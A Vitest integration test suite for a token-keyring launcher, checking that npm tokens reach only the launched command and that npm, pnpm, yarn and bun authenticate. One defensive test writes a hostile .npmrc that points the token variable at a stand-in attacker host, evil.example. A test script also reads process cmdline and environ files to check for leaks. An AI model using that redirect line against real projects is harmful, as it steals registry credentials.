import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { hasKeyringSession } from '../../scripts/setup/keyring-session.mjs'
import { openSystemKeychain } from '../support/os-keychain.ts'
import { openDataFolder } from '../../src/main/core/infra/storage/data-folder.ts'
import { startPracticeRegistry, type PracticeRegistry } from '../../src/practice/index.ts'
import { createTestHome, type TestHome } from '../support/plaintext-tokens/home.ts'
import { startCore, type CoreFixture, type CoreOptions } from '../support/core-fixture.ts'
import { move, named, signIn } from '../support/practice-story.ts'
import { openTestLauncher, startLauncher } from '../support/launcher-run.ts'
import { hasManager, managerStart, runManager, type PackageManager } from '../support/package-managers.ts'

/**
 * The launcher from source with a real keyring and a real data folder, as the app leaves them; and the real package managers,
 * which authenticate by each way of handing over that they know.
 */

const name = 'docs preview'
let npm: PracticeRegistry
let secret = ''
let data = ''
let home: TestHome
let app: CoreFixture
let options: CoreOptions
let account = ''
let key = ''
const nerf = () => npm.url.replace('http:', '')

beforeAll(async () => {
  if (!hasKeyringSession()) return
  npm = await startPracticeRegistry({ twoFactor: 'none' })
  const token = named(npm, name)
  secret = token.secret
  key = token.key
  data = await mkdtemp(join(tmpdir(), 'tokentray-data-'))
  home = await createTestHome()
  await home.write('.npmrc', `${nerf()}:_authToken=${secret}\n`)
  await home.write('project/package.json', '{"name":"tried","version":"1.0.0","license":"MIT"}')
  await home.write('project/yarn.lock', '')
  const launcher = await openTestLauncher(data, home.path)
  const files = Object.assign(openDataFolder(data), { texts: new Map<string, string>() })
  options = { keychain: openSystemKeychain(), files, fs: home.fs, launcher }
  app = await startCore(options)
  account = await signIn(app, npm)
  // Out of the file and into the keyring: from here on no file has it.
  await app.core.handlers.plaintextTokens.find()
  const id = app.core.snapshot().plaintextTokens.found[0]?.id ?? ''
  expect(await move(app, id)).toEqual({ ok: true })
  await home.write('.npmrc', `registry=${npm.url}\n`)
})

afterAll(async () => {
  if (!hasKeyringSession()) return
  const [move] = app.core.snapshot().plaintextTokens.moved
  if (move) await app.core.handlers.plaintextTokens.forget({ id: move.id })
  await app.core.handlers.accounts.signOut({ account })
  await app.core.dispose()
  await npm.close()
  await home.remove()
  await rm(data, { recursive: true, force: true })
})

/** What leads to the keyring. */
const keyring = {
  DBUS_SESSION_BUS_ADDRESS: process.env['DBUS_SESSION_BUS_ADDRESS'] ?? '',
  XDG_RUNTIME_DIR: process.env['XDG_RUNTIME_DIR'] ?? '',
}
/** Credentials that must not get through. */
const inherited = {
  NPM_TOKEN: 'inherited-token',
  NODE_AUTH_TOKEN: 'inherited-token',
  YARN_NPM_AUTH_IDENT: 'inherited:token',
  BUN_CONFIG_TOKEN: 'inherited-token',
  NPM_CONFIG__AUTH: 'inherited-token',
  'npm_config_//npm.acme.example/:_authToken': 'inherited-token',
  'npm_config_//npm.acme.example/:_password': 'inherited-token',
  MY_OWN_NAME: `npm_${'zZ9'.repeat(12)}`,
}
const environment = () => ({
  HOME: home.path,
  PATH: process.env['PATH'],
  KEPT: 'as it is',
  npm_config_update_notifier: 'false',
  npm_config_fetch_retries: '0',
  YARN_ENABLE_TELEMETRY: '0',
  ...keyring,
  ...inherited,
})
const launch = (words: readonly string[], cwd = join(home.path, 'project')) =>
  startLauncher([`--data-dir=${data}`, ...words], { env: environment(), cwd })
const tell = (script: string) => ['--', process.execPath, '-e', script]

describe.skipIf(!hasKeyringSession())('tokentray-run', { timeout: 180_000 }, () => {
  it('gives the token to the command alone, and takes other credentials out of its environment', async () => {
    const script = `
      const fs = require('node:fs')
      const own = '/proc/self', parent = '/proc/' + process.ppid
      const read = (file) => { try { return fs.readFileSync(file, 'latin1') } catch { return '' } }
      console.log(JSON.stringify({
        env: process.env, args: read(own + '/cmdline') + read(parent + '/cmdline'), above: read(parent + '/environ'),
      }))`
    const { end, output } = await launch(tell(script)).ended
    expect(end, output).toBe(0)
    const told = JSON.parse(output) as { env: Record<string, string>; args: string; above: string }
    expect(told.env[`npm_config_${nerf()}:_authToken`]).toBe(secret)
    expect(told.env['KEPT']).toBe('as it is')
    expect(Object.values(told.env).filter((value) => value === secret)).toHaveLength(1)
    for (const each of Object.keys(inherited)) expect(told.env, each).not.toHaveProperty([each])
    expect(told.args + told.above).not.toContain(secret)
    for (const file of await readdir(data)) {
      if (file.includes('.')) expect(await readFile(join(data, file), 'utf8'), file).not.toContain(secret)
    }
  })

  it('ends as the command ends, and says in words why nothing was run', async () => {
    expect((await launch(tell('process.exit(7)')).ended).end).toBe(7)
    expect((await launch(tell('process.kill(process.pid, "SIGKILL")')).ended).end).toBe('SIGKILL')
    expect(await launch(['--', join(home.path, 'nothing-there')]).ended).toMatchObject({
      end: 127,
      output: expect.stringContaining('It is not there.') as string,
    })
    expect(await launch(['--', join(home.path, 'project/package.json')]).ended).toMatchObject({ end: 126 })
    const other = await launch(['--registry=https://npm.acme.example/', ...tell('0')]).ended
    expect(other).toMatchObject({ end: 125, output: expect.stringContaining(key) as string })
    expect(await launch(['--for=make', ...tell('0')]).ended).toMatchObject({ end: 125 })
    expect((await launch(['--list']).ended).output).toContain(npm.url)
  })

  it('runs nothing in a project whose settings would send the token elsewhere', async () => {
    await home.write('hostile/package.json', '{"name":"tried"}')
    await home.write('hostile/.npmrc', `//evil.example/:_authToken=\${npm_config_${nerf()}:_authToken}\n`)
    const { end, output } = await launch(tell('console.log("it ran")'), join(home.path, 'hostile')).ended
    expect([end, output]).toEqual([125, expect.stringContaining('names the variable that carries the token')])
    expect(output).not.toContain('it ran')
  })

  it('passes signals on', async () => {
    const running = launch(
      tell(
        `process.on('SIGTERM', () => { console.log('told'); process.exit(3) }); console.log('waits'); setInterval(() => 0, 1000)`,
      ),
    )
    await expect.poll(() => running.printed(), { timeout: 30_000 }).toContain('waits')
    running.child.kill('SIGTERM')
    expect(await running.ended).toMatchObject({ end: 3, output: expect.stringContaining('told') as string })

    const interrupted = launch(tell(`console.log('waits'); setInterval(() => 0, 1000)`))
    await expect.poll(() => interrupted.printed(), { timeout: 30_000 }).toContain('waits')
    interrupted.child.kill('SIGINT')
    expect((await interrupted.ended).end).toBe('SIGINT')
  })

  it('leaves no secret in a file when it is killed, and the next one removes what it left', async () => {
    const temporary = await mkdtemp(join(tmpdir(), 'tokentray-killed-'))
    const env = { ...environment(), TMPDIR: temporary }
    const start = (words: readonly string[]) =>
      startLauncher([`--data-dir=${data}`, ...words], { env, cwd: join(home.path, 'project') })
    const left = () => readdir(temporary)

    // The command ends by itself once the launcher is gone, as one that writes to its terminal does.
    const waits =
      "const parent = process.ppid; console.log('waits'); setInterval(() => process.ppid === parent || process.exit(), 50)"
    const killed = start(['--for=yarn', ...tell(waits)])
    await expect.poll(() => killed.printed(), { timeout: 30_000 }).toContain('waits')
    killed.child.kill('SIGKILL')
    expect((await killed.ended).end).toBe('SIGKILL')
    const [folder = ''] = await left()
    expect(folder).toMatch(/^tokentray-run-/)
    expect(await readFile(join(temporary, folder, 'npmrc'), 'utf8')).not.toContain(secret)

    // One that still runs keeps its own.
    const runs = start(['--for=yarn', ...tell(waits)])
    await expect.poll(() => runs.printed(), { timeout: 30_000 }).toContain('waits')
    expect(await left()).toHaveLength(1)
    expect((await start(tell('')).ended).end).toBe(0)
    expect(await left()).toHaveLength(1)
    runs.child.kill('SIGTERM')
    await runs.ended
    expect(await left()).toEqual([])
    await rm(temporary, { recursive: true })
  })
})

interface Tool {
  readonly manager: PackageManager
  /** A command that has to authenticate; `view` shows it by the request alone. */
  readonly command: readonly string[]
  readonly lent: boolean
  readonly helped: boolean
}

const tools: readonly Tool[] = [
  { manager: 'npm', command: ['whoami'], lent: true, helped: false },
  { manager: 'pnpm', command: ['whoami'], lent: true, helped: true },
  { manager: 'yarn 1', command: ['info', '@acme/private'], lent: true, helped: false },
  { manager: 'yarn', command: ['npm', 'whoami'], lent: false, helped: false },
  { manager: 'bun', command: ['pm', 'whoami'], lent: true, helped: false },
]

/** What the registry was sent meanwhile. */
async function sentBy(run: () => Promise<unknown>): Promise<readonly (string | undefined)[]> {
  const before = npm.requests.length
  await run()
  return npm.requests.slice(before).map(({ headers }) => headers.authorization)
}

describe.skipIf(!hasKeyringSession())('the real package managers', { timeout: 180_000 }, () => {
  for (const { manager, command, lent, helped } of tools) {
    // Where there is no program for this system, the name of the test says which is missing.
    it.skipIf(!hasManager(manager))(`${manager} authenticates by each way that it knows`, async () => {
      const bearer = `Bearer ${secret}`
      const { handover } = app.core.handlers
      const plain = () => runManager(manager, command, home.path, keyring)
      expect(await sentBy(plain)).not.toContain(bearer)

      // Started by a path of the tests, its name does not tell which it is.
      const words = [`--for=${manager.split(' ')[0] ?? ''}`, '--', ...managerStart(manager), ...command]
      const ran = await sentBy(() => launch(words).ended)
      expect(ran).toContain(bearer)
      expect(await sentBy(plain)).not.toContain(bearer)

      for (const way of ['lend', 'help'] as const) {
        if (!(way === 'lend' ? lent : helped)) continue
        const before = await home.read('.npmrc')
        const given =
          way === 'lend'
            ? await handover.lend({ account, key, minutes: 5 })
            : await handover.help({ account, key })
        expect(given).toEqual({ ok: true })
        expect(await sentBy(plain), way).toContain(bearer)
        const [one] = app.core.snapshot().handover.handed
        await handover.takeBack({ id: one?.id ?? '' })
        expect(await home.read('.npmrc')).toBe(before)
        expect(await sentBy(plain), way).not.toContain(bearer)
      }
    })
  }
})
